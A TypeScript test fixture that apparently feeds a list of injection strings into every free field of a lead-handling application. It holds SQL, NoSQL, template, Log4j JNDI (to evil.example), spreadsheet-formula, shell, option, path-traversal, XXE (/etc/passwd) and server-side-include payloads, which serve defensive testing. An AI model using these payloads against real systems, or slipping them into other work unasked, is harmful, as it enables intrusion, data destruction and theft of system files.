import { eachInFreeFields } from '../every-field.ts';
import type { Family } from '../hostile-case.ts';

/** Texts with a meaning to other programs that process leads. */
const texts: Readonly<Record<string, string>> = {
  'the end of a SQL statement': "Robert'); DROP TABLE leads;--",
  'a SQL condition': "' OR '1'='1' /*",
  'a SQL union': "' UNION SELECT sqlite_version(), pg_sleep(10)--",
  'dollar-quoted SQL': "$$; select pg_sleep(10); $$ \\'; --",
  'SQL placeholders': '$1 ? :name @name ?1',
  'a MongoDB condition': '{"$gt": "", "$where": "sleep(1000)"}',
  'a Mustache template': '{{constructor.constructor("return process")().exit()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
  'a JavaScript template': '${process.exit(1)} `${1}`',
  'an ERB template': '<%= system("id") %> #{7*7} *{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
  'a Log4j lookup': '${jndi:ldap://evil.example/a} ${${lower:j}ndi:dns://evil.example}',
  'a formula': "=cmd|' /C calc'!A0",
  'a formula after a plus': '+HYPERLINK("https://evil.example","Pay")',
  'a formula after a minus': '-2+3+cmd|/C calc!A0',
  'a formula after an at sign': '@SUM(1+1)*cmd|/C calc!A0',
  'a formula after a quote': '"=1+1","=2+2"',
  'shell commands': '; id; `id` $(id) | id && id > /tmp/x',
  'an option': '--help -oProxyCommand=id',
  'a path': '../../../../etc/passwd\\..\\..\\boot.ini',
  'an LDAP filter': '*)(uid=*))(|(uid=*',
  'printf directives': '%s%s%s%n%x%99999d %c%o%O%j %%',
  'a log line': '"}\n{"level":"fatal","msg":"the server is down"}',
  'an external entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a server-side include': '<!--#exec cmd="id"--><esi:include src="https://evil.example/"/>',
  'catastrophic backtracking': `${'a'.repeat(60)}!${'.'.repeat(60)}@`,
  'the sentence that replaces an empty message': 'Requested service: . Page: . Page: . Page: x y',
  'a link': '[Pay](javascript:alert(1)) ![](https://evil.example/x.png) http://evil.example',
};

export const injections: Family = {
  name: 'injections',
  cases: eachInFreeFields(texts),
};
